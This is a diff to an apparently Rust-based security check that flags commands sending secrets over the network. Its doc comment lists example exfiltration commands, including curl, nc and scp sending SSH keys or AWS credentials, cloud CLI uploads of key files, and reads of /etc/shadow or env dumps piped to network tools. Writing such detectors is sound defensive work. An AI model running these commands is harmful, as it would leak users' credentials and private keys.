@@ -16,7 +16,9 @@ use crate::wordlist::{Words, words};
 declare_check! {
     /// **What it flags**: a network tool given a secret — `curl -d @~/.aws/credentials`,
     /// `curl -F f=@~/.ssh/id_rsa`, `wget --post-file=…`, `scp ~/.ssh/id_rsa host:`,
-    /// `nc host < ~/.ssh/id_rsa` — and a secret read (`cat`, `base64`, `tar`… of a key, a
+    /// `nc host < ~/.ssh/id_rsa`, a cloud CLI's upload (`az storage blob upload -f KEY`,
+    /// `gcloud storage cp KEY gs://…`) or request parameter read from the file (`aws s3api
+    /// list-objects-v2 --bucket B --prefix fileb://~/.aws/credentials`) — and a secret read (`cat`, `base64`, `tar`… of a key, a
     /// credentials file, `.env`, `/etc/shadow`; `env`/`printenv` dumps) in the same pipeline as a
     /// network tool, or inside a substitution in its arguments
     /// (`curl -d "$(cat ~/.ssh/id_rsa)" …`), and a secret read into a URL given to any program
